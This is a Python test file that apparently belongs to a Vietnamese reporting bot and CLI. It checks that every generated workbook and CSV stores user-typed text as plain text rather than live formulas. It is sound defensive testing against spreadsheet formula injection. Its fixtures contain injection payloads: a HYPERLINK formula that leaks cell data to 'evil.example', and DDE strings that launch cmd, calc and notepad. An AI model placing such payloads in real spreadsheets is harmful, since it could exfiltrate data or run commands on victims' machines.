"""Text typed by people (answers, notes, comparisons, names) and unit names never run as Excel formulas.

Every workbook and CSV the product makes — `/tonghop`, `/thieu`, `/chitieu` in the chat, `chitieu report`
and `chitieu export` — is opened again and every cell that starts with `=`, `+`, `-` or `@` is checked.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from decimal import Decimal, InvalidOperation
from pathlib import Path

import openpyxl
from typer.testing import CliRunner

import bot.cli  # noqa: F401  (registers every command)
from bot.app import App
from bot.cli.base import cli
from conversations.messages import DocumentOut
from tests.helpers.chat import Chat
from tests.helpers.figures import figure
from tests.reports.factories import filled

RISKY = ("=", "+", "-", "@", "\t", "\r")
EVIL_UNIT = '=HYPERLINK("http://evil.example/?leak="&A1;"Bấm")'
EVIL_PERSON = "@SUM(1+1)*cmd|' /C calc'!A0"
TEXTS = {"trend": "=1+1", "difficulties": "-2+3 khó khăn", "proposals": "@SUM(A1:A9)",
         "year_summary": "+cmd|' /C notepad'!A0"}


def cells_of(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def check_workbook(name: str, data: bytes) -> list[str]:
    """Problems in one workbook; returns the risky texts seen (all safely written)."""
    seen = []
    for cell in cells_of(data):
        assert cell.data_type != "f", f"{name} {cell.coordinate}: a formula {cell.value!r}"
        if isinstance(cell.value, str) and cell.value.startswith(RISKY):
            assert cell.quotePrefix, f"{name} {cell.coordinate}: {cell.value!r} written without the quote prefix"
            seen.append(cell.value)
    return seen


def check_csv(name: str, data: bytes) -> list[str]:
    seen = []
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
        for field in row:
            if field.startswith(("=", "+", "@", "\t", "\r")):
                raise AssertionError(f"{name}: {field!r} would run as a formula")
            if field.startswith("-"):
                try:
                    Decimal(field)
                except InvalidOperation as exc:
                    raise AssertionError(f"{name}: {field!r} would run as a formula") from exc
            if field.startswith("'") and field[1:].startswith(RISKY):
                seen.append(field[1:])
    return seen


def test_every_workbook_and_csv_writes_risky_text_as_text(app: App, registered: Callable[..., Chat],
                                                          catalog_sqlite_url: str, tmp_path: Path) -> None:
    runner = CliRunner()
    env = {"DATABASE_URL": catalog_sqlite_url, "LOG_LEVEL": "WARNING"}
    sheet = tmp_path / "units.csv"
    sheet.write_text(f'code,name,kind,parent\nQT-EVIL,"{EVIL_UNIT.replace(chr(34), chr(34) * 2)}",agency,QUANGTRI\n',
                     encoding="utf-8")
    result = runner.invoke(cli, ["units", "import", str(sheet)], env=env)
    assert result.exit_code == 0, result.output

    registered("QUANGTRI", name=EVIL_PERSON)
    registered("QT-EVIL", name="-Trần Văn C")
    for i in range(30):  # enough people that /thieu's message is cut and the full list goes as a workbook
        registered("HANOI", name=f"=Người số {i} của một đơn vị có tên rất dài, {'đầu mối ' * 10}")
    filled(app,
           ("QUANGTRI", "CL", "2025-Q3", {"ct1": "1.200.000/800.000", "ct2": "120.500/150.000", **TEXTS},
            {"notes": {"ct2": "=HYPERLINK(\"http://x\")"}, "comparisons": {"ct1": "+Thái Lan 55%"},
             "provisional": ["ct2"]}),
           ("QT-EVIL", "CDS", "2025", {"nen_tang_so": "có", "tang_doanh_thu": "20%", "doanh_thu_so": "3.200/12.500"},
            {"notes": {"doanh_thu_so": "@evil"}, "provisional": ["doanh_thu_so"]}),
           ("QT-BAO", "CDS", "2025", {"nen_tang_so": "không", "tang_doanh_thu": "10%"}, {"sent": False}))
    analyst = registered("CBC", "analyst")

    outputs: dict[str, bytes] = {}
    for command in ("/tonghop 2025-Q3 CL", "/tonghop 2025 CDS", "/thieu 2025-Q3", "/thieu 2025 CDS",
                    "/thieu 2026-Q4", "/chitieu 1 2025-Q3", "/chitieu 2 2025-Q3", "/chitieu 2 2025 CDS"):
        for reply in analyst.send(command):
            if isinstance(reply, DocumentOut):
                outputs[f"{command} → {reply.filename}"] = reply.data
    for args in (["report", "--period", "2025-Q3", "--form", "CL"], ["report", "--period", "2025", "--form", "CDS"],
                 ["report", "--period", "2025", "--form", "CDS", "--unit", "QUANGTRI"],
                 ["export", "--period", "2025-Q3", "--form", "CL"], ["export", "--period", "2025", "--form", "CDS"]):
        for fmt in ("xlsx", "csv"):
            out = tmp_path / f"{'-'.join(args)}.{fmt}"
            result = runner.invoke(cli, [*args, "--format", fmt, "-o", str(out)], env=env)
            assert result.exit_code == 0, (args, fmt, result.output)
            outputs[f"chitieu {' '.join(args)} --format {fmt}"] = out.read_bytes()

    seen: set[str] = set()
    for name, data in outputs.items():
        seen.update(check_workbook(name, data) if data.startswith(b"PK") else check_csv(name, data))
    workbooks = sum(d.startswith(b"PK") for d in outputs.values())
    figure(f"[formula] workbooks={workbooks} csv={len(outputs) - workbooks} risky texts written safely={len(seen)}")
    for text in (*TEXTS.values(), EVIL_UNIT, EVIL_PERSON, '=HYPERLINK("http://x")', "+Thái Lan 55%", "@evil"):
        assert any(text in s for s in seen), f"{text!r} never reached a workbook or CSV: the check proved nothing"
